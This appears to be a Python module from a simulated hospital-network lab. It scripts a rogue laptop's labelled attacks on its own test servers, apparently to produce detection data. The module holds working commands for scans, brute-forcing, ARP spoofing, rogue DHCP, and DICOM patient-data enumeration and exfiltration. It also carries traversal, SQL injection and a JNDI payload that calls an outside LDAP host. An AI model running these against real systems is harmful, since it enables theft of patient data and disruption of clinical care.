"""The incident: what an unmanaged laptop does on the clinical segment, and patient data that leaves it in clear text."""
import os
import secrets
import signal
import time

from runner import PEERS, PYTHON
from topology import HOSTS


class Incident:
    def attack(self, kind, *command, **options):
        self.event(kind, "rogue", *command, label="attack", **options)

    def office_listens(self):
        """The office PC starts to receive DICOM and HL7."""
        received = self.path("office-received")
        os.makedirs(received, exist_ok=True)
        self.daemon("office01", "storescp", "-v", "-aet", "OFFICE", "-od", received, "+xa", 11112, log="office-storescp")
        engine = os.path.join(PEERS, "hl7_server.py")
        self.daemon("office01", PYTHON, engine, self.path("hl7-office-events.jsonl"), 2575, log="office-hl7")

    def attacks(self):
        """What the unmanaged laptop does, against our own servers only."""
        self.link_up("rogue")
        self.office_listens()
        time.sleep(1)
        self.scans()
        self.dicom_attacks()
        self.patient_data_leaves()
        for what, kind, port, count, pause in (("adt", "hl7-unknown-sender", 2575, 3, 0.2), ("bad", "hl7-malformed", 6661, 10, 0.1)):
            self.hl7(kind, "rogue", port, what, count, pause, label="attack")
        for i in range(25):
            name = f"{secrets.token_hex(28)}.{secrets.token_hex(26)}.x{i}.tunnel.invalid"
            self.attack("dns-tunnel", "dig", "@10.20.0.2", "+tries=1", "+time=1", "TXT", name, dst="srv")
        self.guesses()
        self.http_exploit_strings()
        self.arp_spoof()
        self.attack("dhcp-starvation", PYTHON, os.path.join(PEERS, "dhcp_starve.py"), dst="srv", n=40)
        self.rogue_dhcp()

    def scans(self):
        monitor = self.address["mon03"]
        nmap = ("nmap", "-n", "-T4")
        self.attack("arp-sweep", *nmap, "-sn", "10.20.0.1-60", note="nmap ARP ping sweep", timeout=90)
        self.attack(
            "tcp-connect-scan", *nmap, "-sT", "-Pn", "-p", "1-1200,2575,4242,6661,8042,11112", "10.20.0.10", dst="pacs", timeout=120
        )
        self.attack("tcp-syn-scan", *nmap, "-sS", "-Pn", "-F", "10.20.0.12", dst="hl7e", timeout=90)
        self.attack(
            "udp-scan", *nmap, "-sU", "-Pn", "-p", "53,67,69,123,137,161,500,1900,5353", "--max-retries", "1",
            "--host-timeout", "20s", monitor, dst="mon03",
        )

    def dicom_attacks(self):
        for title in "PACS ORTHANC ANY-SCP DCM4CHEE STORESCP CONQUEST ARCHIVE MERGE SYNAPSE IMPAX".split():
            self.attack(
                "dicom-ae-guess", "echoscu", "-aet", "FINDSCU", "-aec", title, "10.20.0.10", 4242,
                dst="pacs", note="called AE title guessing -> A-ASSOCIATE-RJ",
            )
        spoofed = ("-S", "-aet", "WS01", "-aec", "MAINPACS")
        self.attack(
            "dicom-enumerate", "findscu", *spoofed, "10.20.0.10", 4242, "-k", "QueryRetrieveLevel=STUDY", "-k", "PatientName=*",
            "-k", "PatientID", "-k", "StudyInstanceUID",
            dst="pacs", note="calling AE WS01 spoofed from an unknown host, wildcard query",
        )
        loot = self.path("loot")
        os.makedirs(loot)
        self.attack(
            "dicom-exfil", "getscu", *spoofed, "-od", loot, "10.20.0.10", 4242, "-k", "QueryRetrieveLevel=PATIENT",
            "-k", "PatientID=CTT0011", dst="pacs", note="C-GET from unknown host with spoofed AE",
        )
        self.attack(
            "dicom-find-sweep", "sh", "-c",
            'for letter in A B C D E F G H I J K L M N O P Q R S T U V W X Y Z; do findscu "$@" -k "PatientName=$letter*"; done',
            "sh", *spoofed, "10.20.0.10", 4242, "-k", "QueryRetrieveLevel=STUDY", "-k", "PatientID", "-k", "StudyInstanceUID",
            dst="pacs", n=26, note="one query for each first letter, one association each",
        )
        for destination, note in (
            ("EXFIL01", "move destination that the PACS does not know: refused"),
            ("OFFICE", "move destination that no workstation ever used: the PACS sends the study out of the clinical segment"),
        ):
            self.attack(
                "dicom-move-unknown-destination", "movescu", *spoofed, "-aem", destination, "10.20.0.10", 4242,
                "-k", "QueryRetrieveLevel=PATIENT", "-k", "PatientID=CTT0011", dst="pacs", note=note,
            )

    def patient_data_leaves(self):
        """A modality and the HIS send in clear text to a PC in the office network, through the router."""
        office = HOSTS["office01"].ip
        self.event(
            "cleartext-dicom-leaves", "us02", "storescu", "-aet", "US02", "-aec", "OFFICE", office, 11112, self.object("us_color"),
            dst="office01", label="attack", note="clear-text DICOM from the clinical to the office segment",
        )
        self.hl7(
            "cleartext-hl7-leaves", "his", 2575, "adt", 6, 0.2, to="office01", label="attack",
            note="clear-text HL7 from the clinical to the office segment",
        )

    def guesses(self):
        """SNMP communities, SMB and HTTP passwords."""
        self.attack(
            "snmp-brute", "sh", "-c",
            "for c in private admin cisco monitor root manager secret; do "
            f"snmpget -v2c -c $c -t 0.3 -r 0 {self.address['mon03']} 1.3.6.1.2.1.1.1.0; done", dst="mon03", n=7,
        )
        self.attack(
            "smb-brute", "sh", "-c",
            'for p in a b c d e f; do smbclient -U admin%$p -s "$1" "//10.20.0.10/IPC\\$" -c exit; done', "sh", self.smb_conf,
            dst="pacs", n=6,
        )
        self.attack(
            "http-brute", "sh", "-c",
            "for p in admin orthanc password 1234 demo pacs; do "
            "curl -s -o /dev/null -u orthanc:$p http://10.20.0.10:8042/patients; done", dst="pacs", n=6,
        )

    def http_exploit_strings(self):
        base = "http://10.20.0.11:8080/fhir"
        self.attack(
            "http-exploit-strings", "sh", "-c",
            f"curl -s -o /dev/null '{base}/../../../../etc/passwd' --path-as-is; "
            f"curl -s -o /dev/null -H 'X-Api: ${{jndi:ldap://198.51.100.7/a}}' {base}/metadata; "
            f"curl -s -o /dev/null '{base}/Patient?id=1%27%20OR%201=1--'",
            dst="ris", n=3, note="inert strings against our own toy server",
        )

    def arp_spoof(self):
        self.attack(
            "arp-spoof", PYTHON, os.path.join(PEERS, "arp_spoof.py"), HOSTS["rogue"].mac, "10.20.0.10",
            dst="pacs", n=20, note="gratuitous ARP claiming the PACS address",
        )
        time.sleep(1)
        restore = "arping -c 3 -U -S 10.20.0.10 -i eth0 10.20.0.10; true"
        self.event("arp-restore", "pacs", "sh", "-c", restore, timeout=10)

    def rogue_dhcp(self):
        """A second DHCP server offers leases while a modality renews."""
        config = self.write(
            "rogue-dhcp.conf",
            "no-resolv\nno-hosts\nno-ping\nno-daemon\nlog-facility=-\nuser=root\ninterface=eth0\nbind-interfaces\nport=0\n"
            "dhcp-range=10.20.0.200,10.20.0.220,255.255.255.0,5m\ndhcp-option=option:router,10.20.0.166\n"
            f"dhcp-option=option:dns-server,10.20.0.166\ndhcp-leasefile={self.path('rogue-leases')}\n",
        )
        started = time.time()
        server = self.daemon("rogue", "dnsmasq", "-k", "-C", config, log="rogue-dhcp")
        time.sleep(1)
        self.event(
            "dhcp", "us02", "udhcpc", "-i", "eth0", "-q", "-n", "-f", "-x", "hostname:us02", "-s", "/bin/true",
            dst="srv", timeout=20, note="client renewal while rogue DHCP server answers",
        )
        time.sleep(1)
        os.killpg(server.pid, signal.SIGTERM)
        self.record("rogue-dhcp-server", "rogue", started, label="attack", note="second dnsmasq offering leases")
